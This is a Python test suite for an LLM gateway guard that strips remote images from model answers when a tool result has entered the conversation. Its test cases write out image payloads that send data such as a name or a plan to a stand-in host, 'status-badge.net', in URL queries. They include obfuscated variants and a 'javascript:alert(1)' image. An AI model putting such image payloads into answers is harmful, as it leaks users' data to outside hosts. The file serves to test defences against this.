"""Remote images in answers (`guards.pii.images`, keepgate/scrubbing/images.py).

In-process: the neutraliser alone and the "pii" guard's stream transformer, with every
answer split into two chunks at EVERY position and into one-character chunks: the
client-visible text equals the neutralisation of the whole answer, and no prefix the
client has seen ever holds a whole image construct of a host that is not allowed. Through
the real gateway with the openai SDK: streamed and not, tainted (a tool result in the
conversation) and not, `always`, `off`, the allowlist, the audit and the metric.
"""

from __future__ import annotations

import json
import re
from typing import Any

import openai
import pytest

from tests.scrubbing.answer_stream import stream_of

from keepgate.auth.principal import Principal
from keepgate.pipeline.call import Call
from keepgate.scrubbing.guard import build
from keepgate.scrubbing.images import MAX_HOLD, ImageNeutraliser, url_host
from keepgate.scrubbing.settings import SettingsError, parse_settings

pytestmark = pytest.mark.slow(cpu_s=0.4)

ALLOW = ["example.com"]
LEAK = "status-badge.net"

#: (answer, what the client must see)
CASES: list[tuple[str, str]] = [
    (
        "Done. ![ok](https://status-badge.net/b.png?u=Jane+Doe) so it renders.",
        "Done. [image removed: status-badge.net] so it renders.",
    ),
    (
        "Logo: ![l](https://cdn.example.com/a.png) ok",
        "Logo: ![l](https://cdn.example.com/a.png) ok",
    ),
    (
        "Logo: ![l](https://example.com.status-badge.net/a.png)",
        "Logo: [image removed: example.com.status-badge.net]",
    ),
    (
        'x <img src="https://status-badge.net/p?d=1" alt="a"> y',
        "x [image removed: status-badge.net] y",
    ),
    ("x <IMG\nSRC=//status-badge.net/p?d=1> y", "x [image removed: status-badge.net] y"),
    (
        "See ![a][1].\n\n[1]: https://status-badge.net/x?d=2\n",
        "See ![a][1].\n\n\\[1]: https://status-badge.net/x?d=2\n",
    ),
    (
        "[1]: <https://status-badge.net/x?d=2>\nSee ![a][1].",
        "\\[1]: <https://status-badge.net/x?d=2>\nSee ![a][1].",
    ),
    (
        "a ! b < c [not] ![rel](/img/a.png) ![d](data:image/png;base64,AA) 3 < 4 > 2",
        "a ! b < c [not] ![rel](/img/a.png) ![d](data:image/png;base64,AA) 3 < 4 > 2",
    ),
    ('![t](<https://status-badge.net/a b> "title") end', "[image removed: status-badge.net] end"),
    (
        "![a [nested] alt](https://status-badge.net/x_(1).png) end",
        "[image removed: status-badge.net] end",
    ),
    ("![a](https:\\\\status-badge.net/x)", "[image removed: status-badge.net]"),
    ("![a](https://user@Status-Badge.NET.:443/x)", "[image removed: status-badge.net]"),
    ("![a](javascript:alert(1))", "[image removed: javascript:]"),
    (
        "> [1]: https://status-badge.net/q\n> ![a][1]",
        "> \\[1]: https://status-badge.net/q\n> ![a][1]",
    ),
    ("<img src=https&#58;&#x2F;&#x2F;status-badge.net/p>", "[image removed: status-badge.net]"),
    ("a [b] c [d](/x) [e]: f", "a [b] c [d](/x) [e]: f"),
    (
        "A [link](https://status-badge.net/x) is not an image.",
        "A [link](https://status-badge.net/x) is not an image.",
    ),
    (
        "![unclosed](https://status-badge.net/x\n\nnext",
        "![unclosed](https://status-badge.net/x\n\nnext",
    ),
    (
        "<video poster='https://status-badge.net/p.png'></video>",
        "[image removed: status-badge.net]</video>",
    ),
    (
        "<b>bold</b> and <a href='https://status-badge.net'>a</a>",
        "<b>bold</b> and <a href='https://status-badge.net'>a</a>",
    ),
]


def whole(text: str, allow: list[str] = ALLOW) -> str:
    n = ImageNeutraliser(allow)
    return n.feed(text) + n.flush()


@pytest.mark.parametrize("case", CASES, ids=range(len(CASES)))
def test_neutralised_whole_and_at_every_split(case: tuple[str, str]) -> None:
    text, expected = case
    assert whole(text) == expected
    for k in range(len(text) + 1):
        n = ImageNeutraliser(ALLOW)
        assert n.feed(text[:k]) + n.feed(text[k:]) + n.flush() == expected, k
    n = ImageNeutraliser(ALLOW)
    seen = ""
    for c in text:
        seen += n.feed(c)
        if expected != text:
            assert "(https://status-badge" not in seen and "src=" not in seen.lower()
    assert seen + n.flush() == expected


def test_counts_and_hosts() -> None:
    n = ImageNeutraliser(ALLOW)
    n.feed(CASES[0][0] + " " + CASES[3][0] + " " + CASES[1][0])
    n.flush()
    assert n.counts == {"REMOTE_IMAGE": 2} and n.hosts == [LEAK, LEAK]


def test_an_unfinished_image_is_held_at_most_max_hold_then_escaped() -> None:
    n = ImageNeutraliser(ALLOW)
    out = n.feed("before ![" + "a" * (MAX_HOLD + 10))
    assert out.startswith("before !\\[") and n.held < MAX_HOLD
    rest = n.feed("](https://status-badge.net/x)") + n.flush()
    assert "![" not in out + rest  # the escaped opening can never become an image


def test_linear_on_adversarial_input() -> None:
    """Many openings that never close: each position starts one bounded parse."""
    text = "![" * 20_000 + "<img " * 2_000
    n = ImageNeutraliser(ALLOW)
    out = "".join(n.feed(text[i : i + 4096]) for i in range(0, len(text), 4096)) + n.flush()
    assert "status" not in out and len(out) >= len(text)


@pytest.mark.parametrize(
    "url,host",
    [
        ("https://a.b/c", "a.b"),
        ("//A.B:8/c", "a.b"),
        ("/rel", None),
        ("rel.png", None),
        ("data:image/png,x", None),
        ("ftp://x/y", "ftp:"),
        ("https://[::1]:8/x", "[::1]"),
        ("http://u:p@h.io#x", "h.io"),
    ],
)
def test_url_host(url: str, host: str | None) -> None:
    assert url_host(url) == host


def test_settings_are_typed() -> None:
    s = parse_settings(
        {"images": {"mode": "always", "allow_hosts": ["CDN.Example.com.", "*.x.io"]}}
    )
    assert s.images.allow_hosts == ["cdn.example.com", "x.io"]
    assert parse_settings({}).images.mode == "tainted"
    for bad in (
        {"images": {"mode": "sometimes"}},
        {"images": {"allow": ["x.io"]}},
        {"images": {"allow_hosts": ["https://x.io/"]}},
    ):
        with pytest.raises(SettingsError):
            parse_settings(bad)


# -- the guard's stream transformer, in process --------------------------------------------

# Images alone (links have their own tests: test_pii_links.py).
GUARD = build(
    {"nlp_model": None, "images": {"allow_hosts": ALLOW}, "links": {"mode": "off"}}, None, None
)
TOOL_MSGS = [
    {"role": "user", "content": "hi"},
    {
        "role": "assistant",
        "content": None,
        "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
        ],
    },
    {"role": "tool", "tool_call_id": "c1", "content": "attacker text"},
]


def new_call(stream: bool = True, tainted: bool = True) -> Call:
    body = {"messages": TOOL_MSGS if tainted else TOOL_MSGS[:1]}
    return Call(Principal("alice", "developer"), "chat.completions", "demo", body, stream)


async def guarded(pieces: list[str], call: Call) -> str:
    out = [c async for c in GUARD.transform(call, stream_of(pieces))]
    return "".join(ch["delta"].get("content") or "" for c in out for ch in c["choices"])


@pytest.mark.parametrize("case", CASES[:7], ids=range(7))
async def test_the_guard_holds_at_every_split(case: tuple[str, str]) -> None:
    text, expected = case
    for k in range(len(text) + 1):
        assert await guarded([text[:k], text[k:]], new_call()) == expected, k
    assert await guarded(list(text), new_call()) == expected
    assert await guarded([text], new_call(stream=False)) == expected
    assert await guarded([text[:5], text[5:]], new_call(tainted=False)) == text


async def test_images_and_pii_together() -> None:
    text = "Mail john.doe@acme.com ![x](https://status-badge.net/p?q=quarterly+plan) ok"
    for k in range(len(text) + 1):
        out = await guarded([text[:k], text[k:]], new_call())
        assert out == "Mail <EMAIL_ADDRESS> [image removed: status-badge.net] ok", k


# -- through the gateway -------------------------------------------------------------------

CONF = {"guards": {"pii": {"enabled": True, "images": {"allow_hosts": ALLOW}}}}
ATTACK = CASES[0][0] + " " + CASES[3][0] + " " + CASES[1][0]
EXPECTED = whole(ATTACK)


def ask(client: openai.OpenAI, text: str, messages: list[dict], **kw: Any) -> Any:
    return client.chat.completions.with_raw_response.create(
        model="demo", messages=messages, extra_body={"fake": {"reply": text, **kw}}
    )


def streamed(
    client: openai.OpenAI, text: str, messages: list[dict], k: int
) -> tuple[str, list[Any]]:
    chunks = list(
        client.chat.completions.create(
            model="demo",
            messages=messages,
            stream=True,
            extra_body={"fake": {"reply": text, "chunk_chars": k}},
        )
    )
    return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices), chunks


@pytest.fixture(scope="module")
def gw(module_gateway_factory):
    return module_gateway_factory(CONF)


def test_gateway_non_streamed(gw) -> None:
    raw = ask(gw.client(), ATTACK, TOOL_MSGS)
    assert raw.parse().choices[0].message.content == EXPECTED
    assert "REMOTE_IMAGE=2" in raw.headers["x-keepgate-redactions"]
    clean = ask(gw.client(), ATTACK, TOOL_MSGS[:1]).parse().choices[0].message.content
    assert clean == ATTACK  # no untrusted output read: images pass (mode: tainted)


def test_gateway_streamed_at_the_edges_of_the_image(gw) -> None:
    """The first chunk boundary just before the image, after its `!`, in its middle, before
    its `)` and just after it, and one character per chunk. Every split of each image alone
    is test_the_guard_holds_at_every_split (in-process); this is the gateway's wiring (SSE
    in and out, the count on the final chunk), which does not depend on the offset."""
    client = gw.client()
    start = ATTACK.index("![")
    end = ATTACK.index(")", start) + 1
    for k in sorted({1, start, start + 1, (start + end) // 2, end - 1, end}):
        got, chunks = streamed(client, ATTACK, TOOL_MSGS, k)
        assert got == EXPECTED, k
        final = [c for c in chunks if (c.model_extra or {}).get("keepgate")]
        assert final[-1].model_extra["keepgate"]["redactions"] == {"REMOTE_IMAGE": 2}, k


def test_gateway_no_prefix_holds_the_image(gw) -> None:
    seen = ""
    for chunk in gw.client().chat.completions.create(
        model="demo",
        messages=TOOL_MSGS,
        stream=True,
        extra_body={"fake": {"reply": ATTACK, "chunk_chars": 1}},
    ):
        seen += (chunk.choices[0].delta.content or "") if chunk.choices else ""
        assert "(https://status-badge" not in seen and "src=" not in seen
    assert seen == EXPECTED


def test_audit_and_metrics(gateway_factory) -> None:
    gw = gateway_factory(CONF)
    ask(gw.client(), ATTACK, TOOL_MSGS)
    audit = gw.audit_lines()
    assert any(a.get("images_removed") == [LEAK, LEAK] for a in audit)
    pii = [v for line in audit for v in line["verdicts"] if v["guard"] == "pii"]
    assert pii and pii[-1]["detail"]["counts"] == {"REMOTE_IMAGE": 2}
    exposed = gw.http.get("/metrics").text
    m = re.search(r'keepgate_pii_redactions_total\{entity="REMOTE_IMAGE"\} (\S+)', exposed)
    assert m and float(m.group(1)) == 2.0
    assert "Jane" not in json.dumps(audit)


@pytest.mark.parametrize("mode,tainted,removed", [("always", False, True), ("off", True, False)])
def test_modes(gateway_factory, mode: str, tainted: bool, removed: bool) -> None:
    pii = {"enabled": True, "images": {"mode": mode}, "links": {"mode": "off"}}
    gw = gateway_factory({"guards": {"pii": pii}})
    msgs = TOOL_MSGS if tainted else TOOL_MSGS[:1]
    got = ask(gw.client(), CASES[0][0], msgs).parse().choices[0].message.content
    assert got == (CASES[0][1] if removed else CASES[0][0])
    got, _ = streamed(gw.client(), CASES[0][0], msgs, 9)
    assert got == (CASES[0][1] if removed else CASES[0][0])


def test_unknown_field_fails_start_up(gateway_factory) -> None:
    with pytest.raises(Exception, match="images"):
        gateway_factory({"guards": {"pii": {"enabled": True, "images": {"hosts": ["x"]}}}})
